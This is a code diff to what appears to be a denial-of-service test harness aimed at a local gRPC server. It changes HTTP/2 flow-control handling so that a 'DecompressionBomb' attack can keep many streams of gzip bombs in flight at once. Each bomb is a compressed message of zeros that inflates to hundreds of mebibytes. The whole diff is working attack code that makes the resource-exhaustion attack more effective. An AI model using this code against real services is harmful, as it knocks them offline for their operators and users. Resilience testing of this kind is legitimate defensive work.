@@ -216,18 +216,23 @@ class Connection:
         return stream_id
 
     def send_data(self, stream_id: int, payload: bytes, end_stream: bool = True,
-                  frame_size: int = 0):
+                  frame_size: int = 0, wait: bool = True) -> bytes:
         """Sends `payload` on a stream as DATA frames of at most
         `frame_size` bytes (0: as large as the server allows), each within
         the server's windows, reading its WINDOW_UPDATEs while it waits for
-        room. Stops early if the server resets the stream; raises Gone if
-        it closes the connection or the attack's time is up."""
+        room; without `wait`, returns what did not fit instead. Stops early
+        if the server resets the stream; raises Gone if it closes the
+        connection or the attack's time is up."""
         view = memoryview(payload)
         while view:
             if stream_id not in self.stream_windows:
-                return  # reset by the server
-            room = min(len(view), self.connection_window, self.stream_windows[stream_id])
+                return b""  # reset by the server
+            # A window can be below zero: the server's SETTINGS may shrink
+            # a stream's window below what was sent before they arrived.
+            room = max(0, min(len(view), self.connection_window, self.stream_windows[stream_id]))
             if room == 0:
+                if not wait:
+                    return bytes(view)
                 if time.monotonic() > self.deadline:
                     raise Gone
                 time.sleep(0.001)
@@ -249,6 +254,7 @@ class Connection:
             self.connection_window -= room
             if stream_id in self.stream_windows:  # not reset meanwhile
                 self.stream_windows[stream_id] -= room
+        return b""
 
     def send(self, data: bytes) -> bool:
         """Writes what the connection owes the server (acknowledgements),
@@ -514,10 +520,14 @@ class DecompressionBomb(Attack):
     """AtIndex requests each carrying one compressed message of zeros
     that inflates to --inflated-mib MiB, sent within the server's
     flow-control windows, one after another on each connection without
-    waiting for the answers."""
+    waiting for the answers: a request its stream's window cuts short is
+    finished as the window opens, while new ones go out, up to
+    UNFINISHED_PER_CONNECTION at a time."""
 
     algorithm = "gzip"
     streams_per_batch = 1
+    # Half the server's stream limit, so that no stream is refused.
+    UNFINISHED_PER_CONNECTION = 50
 
     def __init__(self, port: int, inflated_mib: int = 256, **_):
         self.block, _ = grpc_request(AT_INDEX, f"127.0.0.1:{port}", b"",
@@ -527,7 +537,20 @@ class DecompressionBomb(Attack):
         self.payload = b"\x01" + len(compressed).to_bytes(4, "big") + compressed
 
     def batch(self, conn, count):
-        conn.send_data(conn.open_stream(self.block), self.payload)
+        unfinished = conn.__dict__.setdefault("unfinished", {})
+        for stream_id, rest in list(unfinished.items()):
+            rest = conn.send_data(stream_id, rest, wait=False)
+            if rest and stream_id in conn.stream_windows:
+                unfinished[stream_id] = rest
+            else:
+                del unfinished[stream_id]
+        if len(unfinished) >= self.UNFINISHED_PER_CONNECTION:
+            time.sleep(0.001)
+            return b"", 0
+        stream_id = conn.open_stream(self.block)
+        rest = conn.send_data(stream_id, self.payload, wait=False)
+        if rest:
+            unfinished[stream_id] = rest
         return b"", 1
 
 
